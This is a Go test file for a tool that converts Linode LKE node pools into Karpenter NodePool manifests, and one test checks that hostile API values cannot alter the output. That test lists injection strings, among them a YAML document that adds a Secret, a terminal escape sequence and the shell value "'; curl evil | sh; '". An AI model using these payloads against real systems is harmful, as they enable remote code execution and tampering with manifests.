package lke_test

import (
	"bytes"
	"flag"
	"os"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"github.com/karpenter-linode/karpenter-linode/modules/advisor/migration/lke"
	"github.com/karpenter-linode/karpenter-linode/modules/advisor/snapshot"
	"github.com/karpenter-linode/karpenter-linode/modules/linode"
	"github.com/karpenter-linode/karpenter-linode/modules/linode/api"
	"github.com/karpenter-linode/karpenter-linode/modules/linodesim"
	"github.com/karpenter-linode/karpenter-linode/modules/nodeclass/v1alpha1"
	"github.com/karpenter-linode/karpenter-linode/modules/operator/catalog"
	"github.com/karpenter-linode/karpenter-linode/modules/operator/catalog/pricelist"
)

var update = flag.Bool("update", false, "write the golden files")

func pool(id int, plan string, count int, edit ...func(*api.LKENodePool)) api.LKENodePool {
	p := api.LKENodePool{ID: id, Type: plan, Count: count, DiskEncryption: "enabled", Autoscaler: api.LKEAutoscaler{Min: count, Max: count}}
	for _, edit := range edit {
		edit(&p)
	}
	return p
}

func scaled(least, most int) func(*api.LKENodePool) {
	return func(p *api.LKENodePool) { p.Autoscaler = api.LKEAutoscaler{Enabled: true, Min: least, Max: most} }
}

func tainted(p *api.LKENodePool) {
	p.Taints = []api.LKETaint{{Key: "dedicated", Value: "batch", Effect: "NoSchedule"}}
}

func tagged(tags ...string) func(*api.LKENodePool) {
	return func(p *api.LKENodePool) { p.Tags = tags }
}

func plans(t *testing.T) []catalog.Plan {
	t.Helper()
	list, err := pricelist.BuiltIn()
	if err != nil {
		t.Fatal(err)
	}
	all, err := catalog.Plans(t.Context(), list)
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func TestAClustersPools(t *testing.T) {
	label := "Batch Workers"
	im, err := lke.New(lke.Cluster{ID: 4711, Label: "shop", Region: "us-ord", Tier: "standard", Pools: []api.LKENodePool{
		pool(3, "g6-standard-4", 5, scaled(3, 12), func(p *api.LKENodePool) {
			p.Labels = map[string]string{"team": "web", "lke.linode.com/x": "y", "node.kubernetes.io/instance-type": "z", "yes": "no"}
		}),
		pool(1, "g6-standard-2", 2),
		pool(2, "g6-dedicated-4", 1, tainted, scaled(0, 4), tagged("team-batch", "lke123", "ab", "karpenter.sh/discovery=x"),
			func(p *api.LKENodePool) { p.Label = &label }),
		pool(4, "g6-standard-4", 1),
		pool(9, "g6-standard-2", 1, tagged(v1alpha1.TagNodePool+"=default")),
	}}, plans(t), 0)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := im.Write(&out); err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile("testdata/shop.yaml", out.Bytes(), 0o644); err != nil { //nolint:gosec // a source file
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile("testdata/shop.yaml")
	if err != nil || out.String() != string(want) {
		t.Errorf("%v\n%s", err, out.String())
	}
	s, err := snapshot.Read(&out)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.NodePools) != 3 || len(s.NodeClasses) != 2 {
		t.Fatalf("%d NodePools, %d classes", len(s.NodePools), len(s.NodeClasses))
	}
	for _, document := range strings.Split(string(want), "---\n")[1:] {
		if strings.Contains(document, "kind: "+v1alpha1.Kind+"\nmetadata") {
			if err := yaml.UnmarshalStrict([]byte(document), &v1alpha1.LinodeNodeClass{}); err != nil {
				t.Error(err)
			}
		}
	}
	for _, nodePool := range s.NodePools {
		if err := nodePool.RuntimeValidate(t.Context()); err != nil {
			t.Errorf("%s: %v", nodePool.Name, err)
		}
	}
}

// Every text of an answer is one value of the manifest, or a comment on one line: an answer adds no field and no document, and no command
// to the steps.
func TestAHostileAnswerAddsNothingToTheManifests(t *testing.T) {
	for _, attack := range []string{
		"x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: evil}\n#",
		"x]\n  limits: {nodes: 1000}\n  y: [", "x\u0085kind: Secret\u2028a: b\rc: d",
		"true", "null", "1e3", "'; curl evil | sh; '", "x: {a: b}", "*alias", "!!binary aGk=", "\x1b]52;c;eA==\a",
	} {
		label := attack
		im, err := lke.New(lke.Cluster{ID: 4711, Label: attack, Region: attack, Tier: attack, Pools: []api.LKENodePool{
			pool(1, attack, 1), pool(2, attack, 3, scaled(1, 9), tagged(attack), func(p *api.LKENodePool) {
				p.Label, p.DiskEncryption = &label, api.DiskEncryption(attack)
				p.Labels = map[string]string{attack: attack, "kubernetes.io/" + attack: attack}
				p.Taints = []api.LKETaint{{Key: attack, Value: attack, Effect: api.LKETaintEffect(attack)}}
			}),
		}}, plans(t), 1)
		if err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := im.Write(&out); err != nil {
			t.Fatal(err)
		}
		documents := 0
		for _, document := range strings.Split(out.String(), "\n---\n") {
			var object map[string]any
			if err := yaml.UnmarshalStrict([]byte(document), &object); err != nil {
				t.Errorf("%q: %v\n%s", attack, err, document)
				continue
			}
			if len(object) == 0 {
				continue
			}
			documents++
			switch object["kind"] {
			case v1alpha1.Kind:
			case "NodePool":
				spec := object["spec"].(map[string]any)
				if limits := spec["limits"].(map[string]any); len(spec) != 3 || limits["nodes"] != float64(9) {
					t.Errorf("%q: the NodePool has %v", attack, spec)
				}
				of := spec["template"].(map[string]any)["spec"].(map[string]any)
				if types := of["requirements"].([]any)[1].(map[string]any)["values"].([]any); len(types) != 1 || types[0] != attack {
					t.Errorf("%q: the types are %v", attack, types)
				}
			default:
				t.Errorf("%q: an object of kind %v", attack, object["kind"])
			}
		}
		if documents != 2 || strings.ContainsAny(out.String(), "\r\x1b\a\u0085\u2028") {
			t.Errorf("%q: %d documents\n%s", attack, documents, out.String())
		}
	}
}

func TestWhichPoolStays(t *testing.T) {
	small, large := pool(1, "g6-standard-1", 1), pool(2, "g6-standard-4", 3, scaled(1, 3))
	for name, c := range map[string]struct {
		pools []api.LKENodePool
		keep  int
		want  int // 0 = an error
	}{
		"the cheapest that is not scaled": {[]api.LKENodePool{large, pool(4, "g6-standard-2", 3), pool(3, "g6-standard-2", 2)}, 0, 3},
		"the cheapest that is scaled":     {[]api.LKENodePool{pool(1, "g6-standard-2", 1, scaled(1, 2)), large}, 0, 1},
		"none with taints":                {[]api.LKENodePool{pool(1, "g6-standard-1", 1, tainted), large}, 0, 2},
		"the one that is named":           {[]api.LKENodePool{small, large}, 2, 2},
		"only taints":                     {[]api.LKENodePool{pool(1, "g6-standard-1", 1, tainted), pool(2, "g6-standard-1", 1, tainted)}, 0, 0},
		"a name of none":                  {[]api.LKENodePool{small, large}, 7, 0},
		"one pool":                        {[]api.LKENodePool{small}, 0, 0},
		"no pool of the user's":           {[]api.LKENodePool{pool(1, "g6-standard-1", 1, tagged(v1alpha1.TagLKEManaged+"=true"))}, 0, 0},
	} {
		t.Run(name, func(t *testing.T) {
			im, err := lke.New(lke.Cluster{Label: "shop", Region: "us-ord", Pools: c.pools}, plans(t), c.keep)
			switch {
			case c.want == 0:
				if err == nil {
					t.Errorf("pool %d stays, want an error", im.Stays.ID)
				}
			case err != nil:
				t.Error(err)
			case im.Stays.ID != c.want:
				t.Errorf("pool %d stays, want %d", im.Stays.ID, c.want)
			case slices.ContainsFunc(im.Pools, func(p lke.Pool) bool { return p.ID == c.want }):
				t.Error("the pool that stays becomes a NodePool")
			}
		})
	}
}

func TestPoolsWithOneLabelGetNamesOfTheirOwn(t *testing.T) {
	im, err := lke.New(lke.Cluster{Region: "us-ord", Pools: []api.LKENodePool{pool(1, "g6-standard-1", 1), pool(2, "g6-standard-2", 1),
		pool(3, "g6-standard-2", 1)}}, plans(t), 1)
	if err != nil || im.Pools[0].Name != "g6-standard-2" || im.Pools[1].Name != "g6-standard-2-3" {
		t.Errorf("%v: %+v", err, im)
	}
}

func TestReadTakesALabelOrAnID(t *testing.T) {
	sim, err := linodesim.New(linodesim.Config{ValidateAnswers: true, Profile: linodesim.Instant()})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, label := range []string{"shop", "twin", "twin"} {
		info, err := sim.AddCluster(linodesim.ClusterSpec{Label: label, Region: "us-ord", Tier: "standard"})
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, strconv.Itoa(info.ID))
		if _, err := sim.AddPool(info.ID, linodesim.PoolSpec{Type: "g6-standard-2", Count: 2}); err != nil {
			t.Fatal(err)
		}
	}
	client, err := linode.New(linode.Config{Token: linode.StaticToken(linodesim.DefaultToken), Transport: sim.Transport()})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"shop", ids[0], ids[2]} {
		cluster, err := lke.Read(t.Context(), client, name)
		if err != nil || cluster.Region != "us-ord" || cluster.Tier != "standard" || len(cluster.Pools) != 1 || cluster.Pools[0].Count != 2 {
			t.Errorf("%s: %v: %+v", name, err, cluster)
		}
	}
	for name, want := range map[string]string{"twin": "by its ID", "none": "shop, twin, twin"} {
		if _, err := lke.Read(t.Context(), client, name); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", name, err, want)
		}
	}
}

// The commands of the way back make a pool like the deleted pool; LKE does not scale the new pool yet.
func TestADeletedPoolIsMadeAgain(t *testing.T) {
	sim, err := linodesim.New(linodesim.Config{ValidateAnswers: true, Profile: linodesim.Instant()})
	if err != nil {
		t.Fatal(err)
	}
	info, err := sim.AddCluster(linodesim.ClusterSpec{Label: "shop", Region: "us-ord", Tier: "standard"})
	if err != nil {
		t.Fatal(err)
	}
	for _, spec := range []linodesim.PoolSpec{{Type: "g6-standard-1", Count: 1}, {
		Type: "g6-standard-2", Count: 2, Label: "web", Labels: map[string]string{"team": "web"}, Tags: []string{"shop"},
		Taints: []linodesim.Taint{{Key: "a", Value: "b", Effect: "NoSchedule"}}, Autoscaler: &api.LKEAutoscaler{Enabled: true, Min: 1, Max: 4},
	}} {
		if _, err := sim.AddPool(info.ID, spec); err != nil {
			t.Fatal(err)
		}
	}
	client, err := linode.New(linode.Config{Token: linode.StaticToken(linodesim.DefaultToken), Transport: sim.Transport()})
	if err != nil {
		t.Fatal(err)
	}
	read := func() lke.Pool {
		t.Helper()
		cluster, err := lke.Read(t.Context(), client, "shop")
		if err != nil {
			t.Fatal(err)
		}
		im, err := lke.New(cluster, plans(t), cluster.Pools[0].ID)
		if err != nil || len(im.Pools) != 1 {
			t.Fatalf("%v: %+v", err, im)
		}
		return im.Pools[0]
	}
	before := read()
	if err := sim.DeletePool(info.ID, before.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := client.CreatePool(t.Context(), info.ID, before.Request()); err != nil {
		t.Fatal(err)
	}
	after := read()
	if after.Autoscaler != (api.LKEAutoscaler{Min: 1, Max: 4}) {
		t.Errorf("its autoscaler is %+v", after.Autoscaler)
	}
	before.Autoscaler, before.ID, before.Nodes, before.Max = after.Autoscaler, after.ID, after.Nodes, after.Max
	if !reflect.DeepEqual(before, after) {
		t.Errorf("it is\n%+v, was\n%+v", after, before)
	}
}

func TestStepsAreForTheAPIThatWasRead(t *testing.T) {
	for url, want := range map[string]string{
		"https://api.linode.com":       "https://api.linode.com/v4beta/lke/clusters/7/pools",
		"http://127.0.0.1:8080/v4/":    "http://127.0.0.1:8080/v4beta/lke/clusters/7/pools",
		"https://example.com/x/v4beta": "https://example.com/x/v4beta/lke/clusters/7/pools",
	} {
		if got := (&lke.Import{API: url, Cluster: lke.Cluster{ID: 7}}).PoolsURL(); got != want {
			t.Errorf("%s: %s, want %s", url, got, want)
		}
	}
}
